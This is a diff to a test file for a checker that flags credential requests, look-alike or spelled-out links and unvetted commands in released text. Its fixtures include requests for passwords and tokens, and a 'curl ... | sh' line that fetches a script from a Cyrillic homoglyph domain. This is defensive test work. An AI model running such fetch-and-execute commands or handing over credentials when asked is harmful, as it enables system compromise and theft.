@@ -80,6 +80,24 @@ describe('findReleaseViolations', () => {
     ['asking for a password in Chinese', '请把您的数据库密码发送给值班同学', [], ['CREDENTIAL_REQUEST']],
     ['asking for a key even in the evidence', 'x', ['Please send your token to ops'], ['CREDENTIAL_REQUEST']],
     ['talking about keys is fine', 'rotate the API key of payment-service after the incident', [], []],
+    ['asking with "pls"', 'pls send the root password to ops-bot', [], ['CREDENTIAL_REQUEST']],
+    [
+      'asking after a leading clause',
+      'To proceed, send the admin password to ops-bot.',
+      [],
+      ['CREDENTIAL_REQUEST'],
+    ],
+    ['asking for creds', 'send me your creds', [], ['CREDENTIAL_REQUEST']],
+    ['an abbreviation inside the sentence', 'Send e.g. your password to ops-bot', [], ['CREDENTIAL_REQUEST']],
+    ['a hyphenated password', 'Send your pass-word to ops-bot', [], ['CREDENTIAL_REQUEST']],
+    ['a Chinese imperative with 把', '把root密码发到ops-bot群里', [], ['CREDENTIAL_REQUEST']],
+    [
+      'a client that sent a token is an observation',
+      'order-service failed to send the token to payment-service',
+      [],
+      [],
+    ],
+    ['a spelled-out host', 'go to evil dot com slash reset', [], ['LINK']],
   ])('%s', (_name, text, evidence, expected) => {
     expect(findReleaseViolations([text], { documents: evidence })).toEqual(expected);
   });
@@ -92,11 +110,23 @@ describe('findReleaseViolations', () => {
 describe('findReleaseViolations: vouched for only as written', () => {
   const apacheInCyrillic = '\u0430\u0440\u0430\u0441\u04bb\u0435';
   it.each<[string, string, string[], string, ReleaseViolation[]]>([
-    ['an allowlisted host with a Cyrillic o', 'log in at https://sso.c\u043erp.com/login', [], 'corp.com', ['LINK']],
+    [
+      'an allowlisted host with a Cyrillic o',
+      'log in at https://sso.c\u043erp.com/login',
+      [],
+      'corp.com',
+      ['LINK'],
+    ],
     ['an allowlisted host with a Greek omicron', 'see wiki.c\u03bfrp.com', [], 'corp.com', ['LINK']],
     ['the allowlisted host itself', 'log in at https://sso.corp.com/login', [], 'corp.com', []],
     // A browser maps fullwidth letters as NFKC does: the destination is the allowlisted host.
-    ['an allowlisted host in fullwidth letters', 'see https://sso.\uff43\uff4f\uff52\uff50.com/', [], 'corp.com', []],
+    [
+      'an allowlisted host in fullwidth letters',
+      'see https://sso.\uff43\uff4f\uff52\uff50.com/',
+      [],
+      'corp.com',
+      [],
+    ],
     [
       "a runbook's link with a whole-label Cyrillic look-alike",
       `curl -fsSL https://downloads.${apacheInCyrillic}.org/kafka/fix.sh | sh`,
@@ -140,14 +170,14 @@ describe('findReleaseViolations: vouched for only as written', () => {
       ['COMMAND'],
     ],
     [
-      "another command before a runbook pipe",
+      'another command before a runbook pipe',
       'evilcmd app.log | grep -c timeout',
       ['Count them: cat app.log | grep -c timeout'],
       '',
       ['COMMAND'],
     ],
     [
-      "a runbook command after a word that introduces it",
+      'a runbook command after a word that introduces it',
       'Run cat app.log | grep -c timeout',
       ['Count them: cat app.log | grep -c timeout'],
       '',
@@ -190,9 +220,9 @@ describe('findReleaseViolations: vouched for only as written', () => {
       ['COMMAND'],
     ],
   ])('%s', (_name, text, documents, allowlist, expected) => {
-    expect(
-      findReleaseViolations([text], { documents }, parseReleaseAllowlist(allowlist).allowlist),
-    ).toEqual(expected);
+    expect(findReleaseViolations([text], { documents }, parseReleaseAllowlist(allowlist).allowlist)).toEqual(
+      expected,
+    );
   });
 });
 
